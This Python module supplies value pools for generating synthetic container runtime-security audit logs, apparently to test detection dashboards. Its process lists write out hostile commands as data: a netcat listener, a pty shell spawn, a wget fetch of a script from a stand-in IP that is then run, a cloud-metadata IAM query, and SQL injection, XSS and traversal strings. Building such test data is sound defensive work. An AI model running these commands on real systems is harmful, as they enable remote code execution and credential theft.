"""Value pools for the generated lines: processes, runtime messages, users, rules, findings.

Message wordings follow the vendor's runtime audit catalogue (twistlock-logs.md §4). None of the
chatter texts contains the words "violation" or "denied" or the token "nc" unless it is meant to:
the dashboard queries count exactly those.
"""

from __future__ import annotations

# (process path, parent path, full command) for "launched ... not found in the runtime model"
PROCESSES: tuple[tuple[str, str, str], ...] = (
    ("/bin/nc", "/bin/sh", "nc -l -p 4444"),
    ("/bin/nc", "/bin/bash", "nc -zv 10.128.0.12 5432"),
    ("/usr/bin/ncat", "/bin/bash", "ncat --listen 8443"),
    ("/usr/bin/curl", "/bin/sh", "curl -s http://169.254.169.254/latest/meta-data/iam/"),
    ("/usr/bin/curl", "/usr/local/bin/python3", "curl -fsSL https://get.example-tools.io/x.sh"),
    ("/usr/bin/wget", "/bin/sh", "wget -q -O /tmp/x.sh http://198.51.100.23/x.sh"),
    ("/bin/bash", "/usr/sbin/nginx", "bash -c id"),
    ("/bin/sh", "/usr/local/bin/node", "sh -c uname -a"),
    ("/usr/bin/python3", "/bin/bash", "python3 -m http.server 8000"),
    ("/usr/bin/python3", "/bin/sh", "python3 -c import pty;pty.spawn('/bin/bash')"),
    ("/bin/sync", "/bin/sh", "sync"),
    ("/usr/bin/rsync", "/bin/sh", "rsync -az /srv/data backup-1:/srv/"),
    ("/usr/bin/apt-get", "/bin/sh", "apt-get install -y netcat-openbsd"),
    ("/bin/ps", "/bin/bash", "ps aux"),
    ("/usr/bin/top", "/bin/bash", "top -b -n 1"),
    ("/bin/mkdir", "/bin/dash", "mkdir test"),
    ("/usr/bin/base64", "/bin/sh", "base64 -d /tmp/p.b64"),
    ("/usr/bin/ssh", "/bin/bash", "ssh -o StrictHostKeyChecking=no root@10.0.2.15"),
    ("/usr/bin/nmap", "/bin/bash", "nmap -sS -p 1-1024 10.0.0.0/24"),
    ("/usr/bin/gdb", "/bin/bash", "gdb -p 1"),
)

# What a compromised CI job runs during a burst
BURST_PROCESSES: tuple[tuple[str, str, str], ...] = (
    ("/usr/bin/wget", "/bin/sh", "wget -q -O /tmp/x.sh http://198.51.100.23/x.sh"),
    ("/bin/sh", "/usr/bin/gitlab-runner", "sh /tmp/x.sh"),
    ("/usr/bin/curl", "/bin/sh", "curl -s http://169.254.169.254/latest/meta-data/iam/"),
    ("/usr/bin/base64", "/bin/sh", "base64 -d /tmp/p.b64"),
    ("/usr/bin/python3", "/bin/sh", "python3 /tmp/.x/loader.py"),
    ("/bin/chmod", "/bin/sh", "chmod +x /tmp/.x/loader"),
    ("/tmp/.x/loader", "/bin/sh", "/tmp/.x/loader --quiet"),
)

# Process messages beyond "not found in the runtime model": (template, process path, command)
PROCESS_SPECIAL: tuple[tuple[str, str, str], ...] = (
    (
        "{p} launched and is identified as a process used for port scanning. Full command: {c}",
        "/usr/bin/nmap",
        "nmap -sS -p 1-1024 10.0.0.0/24",
    ),
    (
        "{p} launched and is explicitly denied by runtime rule. Full command: {c}",
        "/bin/mkdir",
        "mkdir test",
    ),
    ("A modified executable {p} was launched", "/usr/local/bin/node", ""),
    (
        "{p} launched and is identified as a process used for lateral movement. Full command: {c}",
        "/usr/bin/ssh",
        "ssh -o StrictHostKeyChecking=no root@10.0.2.15",
    ),
    (
        "{p} launched from a temporary file storage, which usually indicates malicious activity.",
        "/tmp/.cache/update",
        "",
    ),
    (
        "{p} launched and detected as a process started with SUID. Full command: {c}",
        "/usr/bin/pkexec",
        "pkexec /bin/sh",
    ),
)

PORTS = (4444, 1337, 6667, 8081, 9001, 31337, 2375, 5555)
EXTERNAL_IPS = ("203.0.113.7", "198.51.100.23", "198.51.100.77", "203.0.113.50", "192.0.2.44")
INTERNAL_IPS = ("10.0.2.15", "10.128.0.12", "10.96.0.23", "10.0.4.12", "172.17.0.3")
DOMAINS = ("xmr.pool-example.net", "update-check.example.org", "raw.paste-example.com")

# Network messages: {p} process, {port}, {ip}, {d} domain
NETWORK: tuple[str, ...] = (
    "Outbound connection to an unexpected port: {port} IP: {ip}",
    "Outbound connection to an unexpected port: {port} IP: {ip}",
    "Process {p} is listening on unexpected port {port}",
    "Outbound connection {p} to IP {ip} is explicitly denied by a runtime rule",
    "Outbound connection {p} to port {port} (IP: {ip}) is explicitly denied by a runtime rule.",
    "Horizontal port scanning {p} to target IP {ip} detected. Target ports 22,80,443,3306",
    "Connect to {ip} is high risk. Intelligence stream categorizes {ip} as malware.",
    "DNS resolution of suspicious name {d}, type A",
)
NETWORK_PROCS = ("/usr/bin/curl", "/usr/bin/wget", "/usr/bin/python3", "/usr/bin/ncat", "/bin/bash")

# Filesystem messages: {p} process name
FILESYSTEM: tuple[str, ...] = (
    "{p} wrote to SSH configuration file /etc/ssh/sshd_config",
    "{p} wrote to administrative accounts configuration file /etc/passwd",
    "{p} wrote to administrative accounts configuration file /etc/sudoers",
    "{p} changed the binary /usr/bin/ls",
    "{p} created a key file at /root/.ssh/id_rsa",
    "{p} wrote suspicious file to /tmp/.cache/kdevtmpfsi",
    "{p} changed explicitly monitored file /etc/nginx/nginx.conf",
    "{p} wrote a suspicious packed/encrypted binary to /tmp/upx.bin",
)
FILESYSTEM_PROCS = ("/usr/bin/vi", "/bin/cp", "/usr/bin/tee", "/usr/bin/python3", "/bin/sed")

# Go source line numbers of the violation log statements, per kind
VIOLATION_LINES = {"Process": (1234, 1251), "Network": (1287, 1302), "Filesystem": (1319,)}
EFFECTS = ("alert", "alert", "alert", "alert", "prevent", "block")

# Denied Docker commands: users with a skewed distribution, commands and rules
DENY_USERS = ("alice", "bob", "admin", "svc-ci", "Carol", "dave", "Eve", "bruce@example.com")
DENY_USER_WEIGHTS = (40, 18, 12, 10, 8, 6, 4, 2)
DENY_COMMANDS = (
    "docker_exec",
    "container_create",
    "image_pull",
    "container_delete",
    "image_push",
    "container_stop",
    "image_delete",
    "network_create",
)
ALLOW_ACTIONS = (
    "docker_ping",
    "container_list",
    "container_inspect",
    "image_list",
    "container_logs",
    "image_inspect",
    "container_create",
    "container_start",
    "docker_info",
)
ALLOW_USERS = ("svc-ci", "kubelet", "alice", "bob", "admin", "svc-deploy")

HOST_SERVICES = ("sshd", "cron", "dockerd", "kubelet", "containerd", "systemd-journald")
HOST_AUDIT_MSGS = (
    "Outbound connection by /usr/lib/apt/methods/http to an unexpected port: 80 IP: "
    "91.189.91.26. Low severity audit, event is automatically added to the runtime model",
    "/usr/bin/dpkg launched from /usr/bin/apt-get but is not found in the runtime model",
    "Process /usr/sbin/sshd is listening on unexpected port 2222",
    "High rate of custom rule events, reporting aggregation started; last event: Lateral SSH "
    "detected by user root using process /usr/sbin/sshd -D -R",
)

WAAS: tuple[tuple[str, str], ...] = (
    ("sqli", 'Detected SQLi attack in query string: \\"1\\" and 1 union select'),
    ("sqli", "Detected SQLi attack in query string: id=1' OR '1'='1"),
    ("xss", "Detected XSS attack in query string: q=%3Cimg%20src%3Dx%3E"),
    ("attackTools", "Detected attack tool: sqlmap/1.7.2#stable"),
    ("directoryTraversal", "Detected directory traversal attack in query string: ../../etc/passwd"),
    ("violations exceeded", "Client exceeded violations within 1m. Banning client for 5m"),
)
HOSTILE_XSS = (
    "Detected XSS attack in query string: "
    '\\"<script>alert(\'x\')</script>\\" onerror=\\"alert(1)\\"'
)
USER_AGENTS = ("curl/7.88.1", "sqlmap/1.7.2#stable", "Mozilla/5.0 (X11; Linux x86_64)", "nikto")
COUNTRIES = ("US", "NL", "DE", "CN", "RU", "BR", "IL")
URL_PATHS = ("/search", "/api/v1/cart", "/login", "/", "/static/app.js")
INCIDENTS = ("hijackedProcess", "serviceViolation", "portScanning", "lateralMovement")

BINARIES = (
    "/bin/df",
    "/usr/bin/pgrep",
    "/bin/ls",
    "/usr/bin/find",
    "/bin/cat",
    "/usr/bin/awk",
    "/usr/bin/tail",
    "/bin/grep",
    "/usr/sbin/logrotate",
    "/usr/bin/sleep",
    "/usr/bin/date",
)

FIM_PATHS = ("/etc/nginx/conf.d/shop.conf", "/etc/hosts", "/etc/crontab", "/var/www/html/index.php")
FIM_USERS = ("root", "ec2-user", "ubuntu", "deploy")
